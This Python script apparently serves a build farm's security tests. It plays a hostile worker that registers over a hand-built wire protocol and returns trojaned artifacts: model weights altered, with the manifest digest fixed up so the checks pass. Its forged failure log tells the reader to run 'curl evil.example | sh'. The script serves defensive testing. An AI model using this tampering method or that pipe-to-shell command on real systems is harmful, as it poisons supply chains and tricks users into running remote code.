"""A hostile worker, as an attacker would write it: a Python process that
speaks the farm's wire protocol by hand (raw_zmtp: ZMTP 3.0 and msgpack
built byte by byte), registers as a worker and answers every JOB with a
lie (docs/security.md, "A hostile worker"; issue 14, finding 1 and 5).

  python3 hostile_worker.py PORT NAME TOOLCHAIN HONEST_DIR [--slots N]

For an action whose honest, unsigned artifact is in HONEST_DIR (any
`*.kar`, found by the action key in its manifest) it returns a trojan:
the same archive with every float of weights.bin changed and the
manifest's SHA-256 of that member fixed up, so that every field the broker
used to check (action key, graph digest, toolchain, arguments, member
digests) is right.  For any other action it returns a forged compile
failure (ECOMPILE) with a log of its own.  It prints one line per JOB.
"""

import argparse
import hashlib
import io
import json
import os
import select
import struct
import sys
import tarfile
import time

sys.path.insert(0, os.path.dirname(__file__))
from raw_zmtp import RawDealer  # noqa: E402

KILN_ECOMPILE = 12
FORGED_LOG = "FORGED-BY-MALLORY: error: your model is broken, run curl evil.example | sh\n"


def trojan(honest):
    """The honest archive with its weights changed and its manifest still
    consistent: weights.bin's bytes and their digest, changed in place."""
    data = bytearray(honest)
    with tarfile.open(fileobj=io.BytesIO(honest)) as tar:
        info = {m.name: m for m in tar.getmembers()}
        weights, manifest = info["weights.bin"], info["manifest.json"]
    start, size = weights.offset_data, weights.size
    old = bytes(data[start:start + size])
    floats = struct.unpack(f"<{size // 4}f", old[:size - size % 4])
    new = struct.pack(f"<{len(floats)}f", *[f + 1.0 for f in floats]) + old[size - size % 4:]
    data[start:start + size] = new
    m0, m1 = manifest.offset_data, manifest.offset_data + manifest.size
    text = bytes(data[m0:m1])
    old_hex, new_hex = hashlib.sha256(old).hexdigest(), hashlib.sha256(new).hexdigest()
    assert old_hex.encode() in text
    data[m0:m1] = text.replace(old_hex.encode(), new_hex.encode())
    return bytes(data)


def honest_by_action(folder):
    out = {}
    for name in os.listdir(folder):
        if name.endswith(".kar"):
            with open(os.path.join(folder, name), "rb") as f:
                data = f.read()
            with tarfile.open(fileobj=io.BytesIO(data)) as tar:
                manifest = json.loads(tar.extractfile("manifest.json").read())
            out[manifest["action_key"]] = data
    return out


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("port", type=int)
    ap.add_argument("name")
    ap.add_argument("toolchain")
    ap.add_argument("honest_dir")
    ap.add_argument("--slots", type=int, default=1)
    args = ap.parse_args()
    d = RawDealer(args.port)
    d.send({"v": 2, "cmd": "READY", "frames": 0, "name": args.name, "slots": args.slots,
            "toolchains": [args.toolchain], "session": 1})
    print(f"{args.name}: registered", flush=True)
    beat = 0.0
    while True:
        now = time.monotonic()
        if now - beat > 0.3:
            d.send({"v": 2, "cmd": "HEARTBEAT", "frames": 0, "name": args.name})
            beat = now
        # Wait for the start of a message, then read all of it: a timeout
        # in the middle of a message would lose its first frames.
        readable, _, _ = select.select([d.sock], [], [], 0.3)
        if not readable:
            continue
        header, _ = d.recv(timeout=30)
        if header.get("cmd") != "JOB":
            continue
        job, action = header["job_id"], header["action_key"]
        honest = honest_by_action(args.honest_dir).get(action)
        if honest is not None:
            bad = trojan(honest)
            d.send({"v": 2, "cmd": "DONE", "frames": 1, "job_id": job, "ok": True,
                    "artifact_size": len(bad)}, bad)
            print(f"{args.name}: job {job} action {action}: sent a trojan", flush=True)
        else:
            d.send({"v": 2, "cmd": "DONE", "frames": 0, "job_id": job, "ok": False,
                    "code": KILN_ECOMPILE, "message": "compiler exited with status 1",
                    "log": FORGED_LOG})
            print(f"{args.name}: job {job} action {action}: sent a forged failure", flush=True)


if __name__ == "__main__":
    main()
